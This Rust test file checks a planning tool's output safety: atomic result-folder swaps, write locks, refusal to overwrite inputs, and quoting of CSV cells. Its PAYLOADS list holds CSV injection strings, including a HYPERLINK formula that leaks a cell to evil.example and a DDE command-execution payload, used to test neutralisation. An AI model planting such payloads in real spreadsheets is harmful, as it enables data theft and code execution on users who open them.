//! Hostile cases: output. A result folder changes as one unit (a sibling temporary folder swapped
//! in; a lock against a second writer; leftovers of killed runs cleaned up), no command writes
//! over one of its inputs, and every CSV cell we write is safe to open in a spreadsheet (formula
//! text quoted, numbers untouched) while our own readers get the names back byte for byte.

use super::{Case, Work};
use std::path::Path;
use std::process::Command;

const BIN: &str = env!("CARGO_BIN_EXE_jianpai");

/// Names a spreadsheet would run as formulas (OWASP CSV injection).
const PAYLOADS: [&str; 7] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "=1+2",
    "-无锡某厂",
];

/// Rewrite one column of every data row of a CSV of the work folder: `f(row index, old cell)`.
fn rewrite_column(w: &Work, rel: &str, column: &str, f: impl Fn(usize, &str) -> String) {
    let text = w.read(rel);
    let text = text.trim_start_matches('\u{feff}');
    let mut r = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes());
    let mut rows: Vec<Vec<String>> = r
        .records()
        .map(|x| x.unwrap().iter().map(str::to_string).collect())
        .collect();
    let c = rows[0].iter().position(|h| h == column).unwrap();
    for (i, row) in rows.iter_mut().enumerate().skip(1) {
        row[c] = f(i, &row[c]);
    }
    let mut out = csv::Writer::from_writer(Vec::new());
    for row in rows {
        out.write_record(row).unwrap();
    }
    w.write(rel, out.into_inner().unwrap());
}

/// Every enterprise name (or line name) becomes `payload` + its row number.
fn inject(w: &Work, file: &str, column: &str, payload: &str) {
    rewrite_column(w, file, column, |i, _| format!("{payload}{i}"));
}

/// The cells of a CSV file we wrote.
fn cells(path: &Path) -> Result<Vec<Vec<String>>, String> {
    let text = std::fs::read_to_string(path).map_err(|e| format!("{}: {e}", path.display()))?;
    let mut r = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    r.records()
        .map(|x| {
            x.map(|x| x.iter().map(str::to_string).collect())
                .map_err(|e| e.to_string())
        })
        .collect()
}

/// A cell a spreadsheet would evaluate: starts with = + - @ tab or CR and is not a number.
fn formula(c: &str) -> bool {
    c.starts_with(['=', '+', '-', '@', '\t', '\r']) && c.parse::<f64>().is_err()
}

/// Every CSV below `dir`: no formula cell, and at least one cell quoted as `'` + `payload`….
fn csvs_neutralised(w: &Work, dir: &str, payload: &str) -> Result<(), String> {
    let mut files = Vec::new();
    collect_csv(&w.path(dir), &mut files);
    if files.is_empty() {
        return Err(format!("no CSV in {dir}"));
    }
    let quoted = format!("'{payload}");
    let mut seen = false;
    for f in &files {
        for row in cells(f)? {
            for c in row {
                if formula(&c) {
                    return Err(format!("{}: formula cell {c:?}", f.display()));
                }
                seen |= c.starts_with(&quoted);
            }
        }
    }
    if seen {
        Ok(())
    } else {
        Err(format!("no cell starts with {quoted:?} in {files:?}"))
    }
}

fn collect_csv(d: &Path, out: &mut Vec<std::path::PathBuf>) {
    let Ok(rd) = std::fs::read_dir(d) else { return };
    for e in rd.flatten() {
        let p = e.path();
        if p.is_dir() {
            collect_csv(&p, out);
        } else if p.extension().is_some_and(|x| x == "csv") {
            out.push(p);
        }
    }
}

/// Run `jianpai` in the work folder; the exit code and stderr.
fn jianpai(w: &Work, args: &[&str]) -> (Option<i32>, String) {
    let o = Command::new(BIN)
        .args(args)
        .current_dir(&w.root)
        .output()
        .unwrap();
    (
        o.status.code(),
        String::from_utf8_lossy(&o.stderr).into_owned(),
    )
}

/// Run `jianpai` in `prepare`, which must succeed.
fn must(w: &Work, args: &[&str]) {
    let (code, err) = jianpai(w, args);
    assert_eq!(code, Some(0), "{args:?}: {err}");
}

/// Hold the lock of `target` (relative) for the rest of the test run, as a running writer would.
fn hold_lock(w: &Work, target: &str) {
    let t = w.path(target);
    let name = t.file_name().unwrap().to_string_lossy().to_string();
    let lock = t.with_file_name(format!(".{name}.jianpai-lock"));
    std::fs::create_dir_all(lock.parent().unwrap()).unwrap();
    let f = std::fs::File::create(&lock).unwrap();
    f.try_lock().unwrap();
    std::mem::forget(f);
}

/// Entries beside `target` left by a run (temporary folders, lock files).
fn leftovers(w: &Work, target: &str) -> Result<(), String> {
    let t = w.path(target);
    let name = t.file_name().unwrap().to_string_lossy().to_string();
    let left: Vec<String> = std::fs::read_dir(t.parent().unwrap())
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().to_string())
        .filter(|n| n.starts_with(&format!(".{name}.jianpai-")))
        .collect();
    if left.is_empty() {
        Ok(())
    } else {
        Err(format!("left beside {target}: {left:?}"))
    }
}

/// One stored entry of a zip file (xlsx), inflated.
fn zip_entry(bytes: &[u8], name: &str) -> Option<String> {
    use std::io::Read;
    let u16_at = |i: usize| u16::from_le_bytes([bytes[i], bytes[i + 1]]) as usize;
    let u32_at = |i: usize| u32::from_le_bytes(bytes[i..i + 4].try_into().unwrap()) as usize;
    let eocd = (0..bytes.len().saturating_sub(21))
        .rev()
        .find(|&i| bytes[i..i + 4] == [0x50, 0x4b, 5, 6])?;
    let mut p = u32_at(eocd + 16);
    for _ in 0..u16_at(eocd + 10) {
        let (method, size) = (u16_at(p + 10), u32_at(p + 20));
        let (n, x, c, off) = (
            u16_at(p + 28),
            u16_at(p + 30),
            u16_at(p + 32),
            u32_at(p + 42),
        );
        if &bytes[p + 46..p + 46 + n] == name.as_bytes() {
            let data = off + 30 + u16_at(off + 26) + u16_at(off + 28);
            let raw = &bytes[data..data + size];
            let mut s = String::new();
            match method {
                0 => s = String::from_utf8_lossy(raw).into_owned(),
                _ => {
                    flate2::read::DeflateDecoder::new(raw)
                        .read_to_string(&mut s)
                        .ok()?;
                }
            }
            return Some(s);
        }
        p += 46 + n + x + c;
    }
    None
}

fn unescape(s: &str) -> String {
    s.replace("&apos;", "'")
        .replace("&quot;", "\"")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&amp;", "&")
}

/// Values of `attr="…"` in an XML text.
fn attrs(xml: &str, attr: &str) -> Vec<String> {
    let key = format!(" {attr}=\"");
    xml.match_indices(&key)
        .map(|(i, _)| {
            let rest = &xml[i + key.len()..];
            unescape(&rest[..rest.find('"').unwrap_or(0)])
        })
        .collect()
}

/// Every link of the 一厂一策 目录 points at a sheet that exists, and some sheet name holds `part`.
fn index_links_resolve(w: &Work, file: &str, part: &str) -> Result<(), String> {
    let bytes = std::fs::read(w.path(file)).map_err(|e| format!("{file}: {e}"))?;
    let book = zip_entry(&bytes, "xl/workbook.xml").ok_or("no workbook.xml")?;
    let names = attrs(&book, "name");
    if !names.iter().any(|n| n.contains(part)) {
        return Err(format!("no sheet name contains {part:?}: {names:?}"));
    }
    let index = zip_entry(&bytes, "xl/worksheets/sheet1.xml").ok_or("no sheet1.xml")?;
    let links = attrs(&index, "location");
    if links.is_empty() {
        return Err("the 目录 has no links".into());
    }
    for l in &links {
        let sheet = l.strip_suffix("!A1").ok_or(format!("link {l:?}"))?;
        let sheet = match sheet.strip_prefix('\'').and_then(|s| s.strip_suffix('\'')) {
            Some(q) => q.replace("''", "'"),
            None => sheet.to_string(),
        };
        if !names.contains(&sheet) {
            return Err(format!("link {l:?} names no sheet ({sheet:?})"));
        }
    }
    Ok(())
}

fn ok(cond: bool, what: impl Into<String>) -> Result<(), String> {
    if cond {
        Ok(())
    } else {
        Err(what.into())
    }
}

fn injection_cases() -> Vec<Case> {
    let mut v = Vec::new();
    for (i, p) in PAYLOADS.iter().enumerate() {
        let p = p.to_string();
        // Enterprise names → plan.csv; the list read back gives the same names.
        let (p1, p2) = (p.clone(), p.clone());
        v.push(
            Case::new(
                format!("output/inject-enterprise-plan-{i}"),
                &["plan", "s.toml", "--out", "p", "--quiet"],
            )
            .prepare(move |w| inject(w, "city/enterprises.csv", "企业名称", &p1))
            .exit(0)
            .after(move |w, _| {
                csvs_neutralised(w, "p", &p2)?;
                let l = jianpai::diff::listing::read_listing(&w.path("p"))
                    .map_err(|_| "plan.csv cannot be read back".to_string())?;
                ok(
                    l.enterprises.values().all(|e| e.name.starts_with(&p2)),
                    format!("names read back differ from {p2:?}"),
                )
            }),
        );
        // Line names → plan.csv; `check` reads the list back and accepts it.
        let (p1, p2) = (p.clone(), p.clone());
        v.push(
            Case::new(
                format!("output/inject-line-plan-{i}"),
                &["plan", "s.toml", "--out", "p", "--quiet"],
            )
            .prepare(move |w| inject(w, "city/lines.csv", "生产线名称", &p1))
            .exit(0)
            .after(move |w, _| {
                csvs_neutralised(w, "p", &p2)?;
                let (code, err) = jianpai(w, &["check", "p", "--scenario", "s.toml", "--quiet"]);
                ok(
                    code == Some(0),
                    format!("check of the list: {code:?} {err}"),
                )
            }),
        );
    }
    // The revision's filings and list; `revise --previous` reads last year's names back.
    for (i, p) in PAYLOADS.iter().take(4).enumerate() {
        let (p1, p2) = (p.to_string(), p.to_string());
        v.push(
            Case::new(
                format!("output/inject-revise-filings-{i}"),
                &[
                    "revise",
                    "s.toml",
                    "--previous",
                    "p",
                    "--out",
                    "r",
                    "--quiet",
                ],
            )
            .prepare(move |w| {
                inject(w, "city/enterprises.csv", "企业名称", &p1);
                must(w, &["plan", "s.toml", "--out", "p", "--quiet"]);
            })
            .exit(0)
            .after(move |w, _| {
                csvs_neutralised(w, "r", &p2)?;
                let d = w.read("r/diff.json");
                ok(
                    !d.contains("\"name_changed\"") && !d.contains("更名"),
                    "names changed between the list and its revision",
                )
            }),
        );
    }
    // Grade-upgrade table.
    let p = PAYLOADS[0].to_string();
    v.push(
        Case::new(
            "output/inject-upgrade-csv",
            &[
                "upgrade",
                "s.toml",
                "--k",
                "1",
                "--candidates",
                "2",
                "--jobs",
                "1",
                "--out",
                "u",
                "--quiet",
            ],
        )
        .prepare({
            let p = p.clone();
            move |w| inject(w, "city/enterprises.csv", "企业名称", &p)
        })
        .exit(0)
        .after(move |w, _| csvs_neutralised(w, "u", &p)),
    );
    // Numbers are not text: negative figures stay numbers.
    v.push(
        Case::new(
            "output/numbers-stay-numbers",
            &["plan", "s.toml", "--out", "p", "--quiet"],
        )
        .exit(0)
        .after(|w, _| {
            let c = cells(&w.path("p/plan.csv"))?;
            ok(
                c.iter()
                    .flatten()
                    .all(|x| !x.starts_with("'") || x.len() < 2),
                "a plain cell was quoted",
            )
        }),
    );
    v
}

fn report_cases() -> Vec<Case> {
    let names: [(&str, &str, &str); 4] = [
        ("apostrophe", "O'Brien水泥（样例）有限公司", "O'Brien"),
        (
            "leading-apostrophe",
            "'澄江'钢铁（样例）有限公司",
            "澄江'钢铁",
        ),
        (
            "cut-at-apostrophe",
            "abcdefghijklmnopqrstuvwxy'zzzzzz",
            "abcdefghijklmnopqrstuvwxy",
        ),
        ("formula-name", "=HYPERLINK(\"http://x\")'s", "=HYPERLINK"),
    ];
    names
        .into_iter()
        .map(|(tag, name, part)| {
            Case::new(
                format!("output/report-index-link-{tag}"),
                &["report", "p", "--out", "rep", "--quiet"],
            )
            .prepare(move |w| {
                rewrite_column(w, "city/enterprises.csv", "企业名称", |i, old| {
                    if i == 1 {
                        name.to_string()
                    } else {
                        old.to_string()
                    }
                });
                must(w, &["plan", "s.toml", "--out", "p", "--quiet"]);
            })
            .exit(0)
            .after(move |w, _| index_links_resolve(w, "rep/一厂一策.xlsx", part))
        })
        .collect()
}

/// Commands that would write over one of their inputs: refused with exit 3, nothing written.
fn overlap_cases() -> Vec<Case> {
    let mut v = vec![
        Case::new(
            "output/plan-out-is-inventory",
            &["plan", "s.toml", "--out", "city"],
        )
        .exit(3)
        .says("city")
        .says("input"),
        Case::new(
            "output/plan-out-holds-scenario",
            &["plan", "s.toml", "--out", "."],
        )
        .exit(3)
        .says("input"),
        Case::new(
            "output/plan-out-is-rules",
            &["plan", "s.toml", "--out", "rules"],
        )
        .exit(3)
        .says("rules")
        .says("input"),
        Case::new(
            "output/plan-out-holds-scenario-folder",
            &["plan", "sub/s.toml", "--out", "sub"],
        )
        .prepare(|w| {
            let s = w
                .read("s.toml")
                .replace("inventory = \"city\"", "inventory = \"../city\"");
            let s = s.replace("\"rules/", "\"../rules/");
            w.write("sub/s.toml", s);
        })
        .exit(3)
        .says("sub")
        .says("input"),
        Case::new(
            "output/plan-out-symlink-to-inventory",
            &["plan", "s.toml", "--out", "link"],
        )
        .prepare(|w| std::os::unix::fs::symlink(w.path("city"), w.path("link")).unwrap())
        .exit(3)
        .says("link")
        .says("input"),
        Case::new(
            "output/plan-out-parent-of-inventory",
            &["plan", "d/s.toml", "--out", "d"],
        )
        .prepare(|w| {
            std::fs::rename(w.path("city"), w.path("d_city")).unwrap();
            std::fs::create_dir_all(w.path("d")).unwrap();
            std::fs::rename(w.path("d_city"), w.path("d/city")).unwrap();
            let s = w.read("s.toml").replace("\"rules/", "\"../rules/");
            w.write("d/s.toml", s);
        })
        .exit(3)
        .says("input"),
        Case::new(
            "output/revise-out-is-previous",
            &["revise", "s.toml", "--previous", "plan", "--out", "plan"],
        )
        .exit(3)
        .says("plan")
        .says("input"),
        Case::new(
            "output/revise-out-holds-previous-file",
            &[
                "revise",
                "s.toml",
                "--previous",
                "plan/plan.csv",
                "--out",
                "plan",
            ],
        )
        .exit(3)
        .says("input"),
        Case::new(
            "output/revise-out-is-scenario-previous",
            &["revise", "s.toml", "--out", "plan"],
        )
        .prepare(|w| w.set_key(Some("revision"), "previous", "\"plan\""))
        .exit(3)
        .says("input"),
        Case::new(
            "output/revise-out-symlink-to-previous",
            &["revise", "s.toml", "--previous", "plan", "--out", "again"],
        )
        .prepare(|w| std::os::unix::fs::symlink(w.path("plan"), w.path("again")).unwrap())
        .exit(3)
        .says("input"),
        Case::new(
            "output/report-out-is-input",
            &["report", "plan", "--out", "plan"],
        )
        .exit(3)
        .says("input"),
        Case::new(
            "output/report-out-holds-input",
            &["report", "plan", "--out", "."],
        )
        .exit(3)
        .says("input"),
        Case::new(
            "output/report-out-is-scenario-folder",
            &["report", "plan", "--out", "sub", "--scenario", "sub/s.toml"],
        )
        .prepare(|w| {
            let s = w
                .read("s.toml")
                .replace("inventory = \"city\"", "inventory = \"../city\"");
            w.write("sub/s.toml", s.replace("\"rules/", "\"../rules/"));
        })
        .exit(3)
        .says("input"),
        Case::new(
            "output/seeds-evolve-out-is-from",
            &["seeds", "evolve", "city", "--out", "city"],
        )
        .exit(3)
        .says("input"),
        Case::new(
            "output/seeds-generate-over-inventory",
            &["seeds", "generate", "--enterprises", "5", "--out", "city"],
        )
        .prepare(|w| std::fs::remove_file(w.path("city/.jianpai-result")).unwrap())
        .exit(3)
        .says("not empty")
        .says("city"),
        Case::new(
            "output/seeds-generate-over-plan",
            &["seeds", "generate", "--enterprises", "5", "--out", "plan"],
        )
        .exit(3)
        .says("jianpai plan"),
        Case::new(
            "output/seeds-extract-over-inventory",
            &["seeds", "extract", "rules", "--out", "city"],
        )
        .exit(3)
        .says("jianpai seeds generate"),
        Case::new(
            "output/plan-over-foreign-folder",
            &["plan", "s.toml", "--out", "mine"],
        )
        .prepare(|w| w.write("mine/notes.docx", "my own work"))
        .exit(3)
        .says("notes.docx"),
        Case::new(
            "output/plan-over-revision",
            &["plan", "s.toml", "--out", "r"],
        )
        .prepare(|w| {
            must(
                w,
                &[
                    "revise",
                    "s.toml",
                    "--previous",
                    "plan",
                    "--out",
                    "r",
                    "--quiet",
                ],
            )
        })
        .exit(3)
        .says("jianpai revise"),
        Case::new(
            "output/upgrade-over-inventory",
            &["upgrade", "s.toml", "--k", "1", "--out", "city"],
        )
        .exit(3)
        .says("city"),
        Case::new(
            "output/curve-out-holds-scenario",
            &[
                "curve",
                "s.toml",
                "--level",
                "red",
                "--pollutant",
                "pm",
                "--from",
                "0.1",
                "--to",
                "0.1",
                "--out",
                ".",
            ],
        )
        .exit(3)
        .says("input"),
        Case::new(
            "output/sweep-merge-into-shard",
            &["sweep", "merge", "sh", "--out", "sh"],
        )
        .prepare(|w| w.write("sh/sweep.json", "{}"))
        .exit(3)
        .says("input"),
        Case::new(
            "output/meters-over-plan",
            &[
                "seeds",
                "meters",
                "--plan",
                "plan",
                "--out",
                "plan/plan.csv",
            ],
        )
        .exit(3)
        .says("plan.csv")
        .after(|w, _| {
            let l = jianpai::diff::listing::read_listing(&w.path("plan"));
            ok(l.is_ok(), "plan.csv was overwritten")
        }),
    ];
    // An --out that is a file, or below a file: exit 7, nothing written.
    v.push(
        Case::new(
            "output/plan-out-is-file",
            &["plan", "s.toml", "--out", "plan/plan.csv"],
        )
        .exit(7)
        .says("not a folder"),
    );
    v.push(
        Case::new(
            "output/report-out-is-file",
            &["report", "plan", "--out", "plan/summary.json"],
        )
        .exit(7)
        .says("not a folder"),
    );
    v.push(
        Case::new(
            "output/plan-out-below-file",
            &["plan", "s.toml", "--out", "plan/plan.csv/x"],
        )
        .exit(7)
        .says("plan.csv"),
    );
    v.push(
        Case::new(
            "output/seeds-out-unwritable-parent",
            &[
                "seeds",
                "generate",
                "--enterprises",
                "5",
                "--out",
                "/proc/jianpai-out/x",
            ],
        )
        .exit(7)
        .says("/proc/jianpai-out/x"),
    );
    v
}

/// A second writer while the lock is held: exit 7 naming the folder, the folder unchanged.
fn lock_cases() -> Vec<Case> {
    let runs: [(&str, &[&str], &str); 7] = [
        ("plan", &["plan", "s.toml", "--out", "plan"], "plan"),
        (
            "report",
            &["report", "plan", "--out", "plan/report"],
            "plan/report",
        ),
        (
            "revise",
            &["revise", "s.toml", "--previous", "plan", "--out", "rev"],
            "rev",
        ),
        (
            "seeds-generate",
            &["seeds", "generate", "--enterprises", "5", "--out", "gen"],
            "gen",
        ),
        (
            "upgrade",
            &["upgrade", "s.toml", "--k", "1", "--out", "up"],
            "up",
        ),
        (
            "curve",
            &[
                "curve",
                "s.toml",
                "--level",
                "red",
                "--pollutant",
                "pm",
                "--from",
                "0.1",
                "--to",
                "0.1",
                "--out",
                "cv",
            ],
            "cv",
        ),
        (
            "seeds-extract",
            &["seeds", "extract", "rules", "--out", "ex"],
            "ex",
        ),
    ];
    runs.into_iter()
        .map(|(tag, args, target)| {
            Case::new(format!("output/locked-{tag}"), args)
                .prepare(move |w| hold_lock(w, target))
                .exit(7)
                .says("another jianpai run is writing")
                .says(target)
        })
        .collect()
}

/// Leftovers of killed runs are cleaned up; results replace as a whole; the usual flows work.
fn swap_cases() -> Vec<Case> {
    vec![
        Case::new(
            "output/stale-temp-dirs-removed",
            &["plan", "s.toml", "--out", "plan", "--quiet"],
        )
        .prepare(|w| {
            w.write(".plan.jianpai-tmp-999999/plan.csv", "half");
            w.write(".plan.jianpai-tmp-1-new/x", "half");
            w.write(".plan.jianpai-lock", "");
        })
        .exit(0)
        .after(|w, _| {
            leftovers(w, "plan")?;
            ok(w.path("plan/plan.csv").is_file(), "no plan.csv")
        }),
        // A run killed between the two renames of the portable swap: the next run (here one
        // that then fails) puts the old folder back. (`--out=` keeps the runner's snapshot out.)
        Case::new(
            "output/old-folder-restored",
            &[
                "plan",
                "s.toml",
                "--out=plan",
                "--write-model",
                "plan/m.txt",
            ],
        )
        .prepare(|w| {
            std::fs::rename(w.path("plan"), w.path(".plan.jianpai-old")).unwrap();
            w.write(".plan.jianpai-tmp-5/plan.csv", "new, half");
        })
        .exit(2)
        .after(|w, _| {
            leftovers(w, "plan")?;
            ok(
                w.path("plan/plan.csv").is_file(),
                "the old result was not put back",
            )
        }),
        Case::new(
            "output/no-leftovers-after-success",
            &["plan", "s.toml", "--out", "n", "--quiet"],
        )
        .exit(0)
        .after(|w, _| {
            leftovers(w, "n")?;
            ok(
                w.read("n/.jianpai-result").trim() == "plan",
                "the result does not name its command",
            )
        }),
        Case::new(
            "output/report-inside-plan-dir",
            &["report", "plan", "--out", "plan/report", "--quiet"],
        )
        .exit(0)
        .after(|w, _| {
            leftovers(w, "plan/report")?;
            ok(w.path("plan/report/报告.html").is_file(), "no report")?;
            ok(w.path("plan/plan.csv").is_file(), "the plan is gone")
        }),
        Case::new(
            "output/result-replaced-as-whole",
            &["plan", "s.toml", "--out", "plan", "--quiet", "--lang", "en"],
        )
        .prepare(|w| {
            must(w, &["report", "plan", "--out", "plan/report", "--quiet"]);
            w.write("plan/stale.csv", "from an older run");
        })
        .exit(0)
        .after(|w, _| {
            ok(!w.path("plan/stale.csv").exists(), "a stale file survived")?;
            ok(
                !w.path("plan/report").exists(),
                "an old report survived the new plan",
            )
        }),
        Case::new(
            "output/legacy-plan-folder-accepted",
            &["plan", "s.toml", "--out", "plan", "--quiet"],
        )
        .prepare(|w| std::fs::remove_file(w.path("plan/.jianpai-result")).unwrap())
        .exit(0)
        .after(|w, _| ok(w.path("plan/.jianpai-result").is_file(), "no marker")),
        Case::new(
            "output/write-model-inside-out",
            &[
                "plan",
                "s.toml",
                "--out",
                "w",
                "--write-model",
                "w/model.lp",
                "--quiet",
            ],
        )
        .exit(0)
        .after(|w, _| {
            ok(
                w.path("w/model.lp").is_file(),
                "the model was lost in the swap",
            )
        }),
        Case::new(
            "output/failed-run-keeps-old",
            &[
                "plan",
                "s.toml",
                "--out",
                "plan",
                "--write-model",
                "plan/m.txt",
            ],
        )
        .exit(2)
        .says("m.txt")
        .after(|w, _| leftovers(w, "plan")),
        Case::new(
            "output/seeds-generate-twice",
            &[
                "seeds",
                "generate",
                "--enterprises",
                "40",
                "--out",
                "city",
                "--quiet",
            ],
        )
        .exit(0)
        .after(|w, _| {
            let (code, err) = jianpai(w, &["validate", "city", "--quiet"]);
            ok(code == Some(0), format!("regenerated city: {err}"))
        }),
    ]
}

pub fn cases() -> Vec<Case> {
    let mut v = injection_cases();
    v.extend(report_cases());
    v.extend(overlap_cases());
    v.extend(lock_cases());
    v.extend(swap_cases());
    v
}
